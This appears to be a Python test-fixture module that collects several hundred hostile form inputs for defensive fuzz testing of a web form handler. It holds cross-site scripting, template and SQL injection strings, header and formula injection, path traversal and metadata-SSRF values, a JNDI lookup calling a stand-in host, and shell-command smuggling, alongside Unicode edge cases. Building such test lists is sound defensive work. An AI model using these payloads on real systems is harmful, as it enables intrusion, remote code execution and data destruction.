"""Values nobody should type: for every field of every form. Some are only bytes, as a hostile sender sends them.

`HOSTILE` holds over four hundred. `as_read` is the text a server makes of one.
"""

from itertools import product
from urllib.parse import quote_from_bytes

import werkzeug.urls  # noqa: F401 - brings the parser's way with bytes that are no text

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--<script>alert(1)//-->",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>", "<base href=//elsewhere.example/>",
    "<style>*{background:url(//elsewhere.example)}</style>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a"
    "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
    "＜script＞alert(1)＜/script＞", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&quot;&#39;&nbsp;&#x0;&#xD800;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<scr\u0000ipt>alert(1)</script>",
    "<script\u2028>alert(1)</script>", "\u2028alert(1)\u2029", "[x](javascript:alert(1))",
    "**fet** [länk](https://elsewhere.example) ![x](x)", "## rubrik\n- punkt",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% raw %}", "{%endblock%}", "{#", "#}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "%(reference)s", "%(link)s", "%s%s%s%n", "%(__class__)s", "{0}",
    "{reference}", "{0.__class__.__init__.__globals__}", "$(id)", "`id`", "${jndi:ldap://elsewhere.example/a}",
    "!!python/object",
]  # fmt: skip
QUERIES = [
    "'", "''", "\"", "`", "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE concern; --", "\"; DROP TABLE concern; --",
    "1; SELECT pg_sleep(10)", "' UNION SELECT * FROM staff_user --", "\\'; --", "%' OR '%'='", "_%_%_", "\\", "\\\\",
    "\\0", "$$", "$1", "?", ":reference", "::text", "/* */", "--", "#", "E'\\x00'",
    "x' AND randomblob(1000000000) --", "admin'--", "*", "(|(uid=*))", "' | '", "NULL", "null", "None", "undefined",
    "NaN", "true", "false", "[]", "{}", "[object Object]",
]  # fmt: skip
HEADERS = [
    "x\r\nSet-Cookie: a=b", "x\nBcc: other@exempel.example", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aX-Y: z",
    "x\rSubject: y", "x\x0bSubject: y", "x\u0085Subject: y", "x\u2028Bcc: other@exempel.example",
    "=?utf-8?q?=0ABcc:_other@exempel.example?=", "\n.\n", "MAIL FROM:<x>",
    "x\r\n.\r\nRCPT TO:<other@exempel.example>",
]  # fmt: skip
ADDRESSES = [
    "a@exempel.example,b@exempel.example", "a@exempel.example;b@exempel.example", "Namn <a@exempel.example>",
    "a@exempel.example\nb@exempel.example", "a@@exempel.example", "@", "a@", "@b", "a@b", "a b@exempel.example",
    "a@exempel", "a@.example", "a@exempel..example", ".a@exempel.example", "a.@exempel.example", "a@-exempel.example",
    "a@exempel.example.", "\"a b\"@exempel.example", "a@[127.0.0.1]", "a@127.0.0.1", "a" * 65 + "@exempel.example",
    "a@" + "b" * 64 + ".example", "a@" + "b." * 130 + "example", "å@ö.example", "a@xn--.example", "a@\u2024example",
    "mailto:a@exempel.example", "a@exempel.example?subject=x", "a%40exempel.example", "<a@exempel.example>",
]  # fmt: skip
FORMULAS = [
    f"{start}{rest}"
    for start, rest in product("=+-@\t\r\n＝＋－＠|%", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x")'))
]
PATHS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f", "/etc/passwd",
    "file:///etc/passwd", "C:\\CON", "NUL", "aux.txt", "\\\\elsewhere.example\\share", "//elsewhere.example",
    "/\\elsewhere.example", "https:elsewhere.example", "http://169.254.169.254/", "a" * 300 + ".txt", "x/../y", ".",
    "..", "~root", "-rf", "--help", ";ls", "| ls", "&& ls",
]  # fmt: skip
NUMBERS = [
    "0", "-1", "-0", "1e308", "1e309", "9" * 40, "-" + "9" * 40, "10" * 400, "0x1F", "0b1", "1_000", "1,5", "1.5",
    " 1 ", "+1", "٣", "१२३", "𝟙𝟚𝟛", "²", "½", "Ⅳ", "〇", "2147483648", "9223372036854775808", "1e", "Infinity",
    "-Infinity", "00000001",
]  # fmt: skip
INVISIBLE = [
    "", " ", "\t", "\n", "\r\n", "\u00a0", "\u00ad", "\u034f", "\u061c", "\u115f", "\u1160", "\u17b4", "\u180e",
    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u2060", "\u2061", "\u2062", "\u2063",
    "\u2064", "\u2800", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\uffa0", "\U000e0001", "\U000e0020", "\u200b" * 3000,
    " " * 6000, "\n" * 6000,
]  # fmt: skip
CONTROLS = [f"före{chr(point)}efter" for point in [*range(0x20), *range(0x7F, 0xA0)]]
NONCHARACTERS = [
    f"före{chr(point)}efter" for point in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x10FFFE, 0x10FFFF)
]
DIRECTIONS = [f"före{mark}gnp.exe" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"]
SHAPES = [
    "a" + "\u0301" * 12, "a" + "\u0301" * 13, "a" + "\u0301" * 300,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d",
    "a\u030a" * 5000, "\uf900" * 100, "\u1e9b\u0323" * 100, "\ufdfa" * 400, "\u0390" * 2000, "\U0001d160" * 1000,
    "\ufb2c" * 2000, "e\u0301\u0327", "\N{ANGSTROM SIGN}", "\N{OHM SIGN}", "ﬁ", "ǆ", "ß", "ẞ", "İ", "ı", "ſ",
    "\u1100\u1161\u11a8", "👨‍👩‍👧‍👦", "👩🏽‍🚒", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇸🇪", "🇸🇪" * 100, "\ufe0f\u20e3", "1\ufe0f\u20e3", "😀" * 5000,
    "😀" * 5001, "𠜎" * 100, "مرحبا بالعالم", "سلام دنیا", "שָׁלוֹם", "مرحبا <b>x</b> 123", "ไทย", "नमस्ते", "ქართული",
    "ᚠᚢᚦ", "𒀀" * 50, "Ⓗⓔⓙ", "Ｈｅｊ", "hеj (kyrilliskt e)", "å" * 200, "å" * 201, "å" * 5000, "å" * 5001, "å" * 20_000,
    "x" * 60_000, "x\r\n" * 2500, "x\n" * 4999, "ord " * 1250, "\\n" * 2500, "x" * 5000 + " ", "just nu " * 600,
    "hota" * 1249, "(" * 4999, "a" * 2500 + "!" * 2499, "<" * 4999, "&" * 4999, "\"" * 4999, "[" * 4999,
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@", "x@" * 1000, "." * 4999, "0" * 4999, "19" * 2499, "()" * 2400,
    "::" * 2400, "07" * 2400,
]  # fmt: skip
RAW = [
    b"\xff", b"\xfe\xff", b"\x80", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf",
    b"\xf8\x88\x80\x80\x80", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xed\xa0\x80\xed\xb0\x80", b"\xf4\x90\x80\x80",
    b"\xe2\x82", b"\xf0\x9f\x98", b"abc\xc3", b"\xc0\x80", b"\xff" * 5000, b"hej \x96 d\xe5",
    "hej då".encode("utf-16"), "hej då".encode("latin-1"), b"\x1b[31mr\xc3\xb6d\x1b[0m", b"\xef\xbb\xbfbom",
    b"+ADw-script+AD4-", b"%u003Cscript%u003E", b"\x1b]0;titel\x07",
]  # fmt: skip

FAMILIES = {
    "script": SCRIPTS, "template": TEMPLATES, "query": QUERIES, "header": HEADERS, "address": ADDRESSES, "formula": FORMULAS,
    "path": PATHS, "number": NUMBERS, "invisible": INVISIBLE, "control": CONTROLS, "noncharacter": NONCHARACTERS,
    "direction": DIRECTIONS, "shape": SHAPES,
}  # fmt: skip
HOSTILE: list[bytes] = list(
    dict.fromkeys([*(value.encode("utf-8", "surrogatepass") for family in FAMILIES.values() for value in family), *RAW])
)


def as_read(raw: bytes) -> str:
    """The text that reaches a form: bytes that are no UTF-8 stay percent-coded, as the form parser leaves them."""
    return raw.decode("utf-8", "werkzeug.url_quote")


def form_body(fields: dict[str, bytes | str]) -> bytes:
    """A url-encoded body, byte for byte."""
    return "&".join(
        f"{name}={quote_from_bytes(value if isinstance(value, bytes) else value.encode())}"
        for name, value in fields.items()
    ).encode()
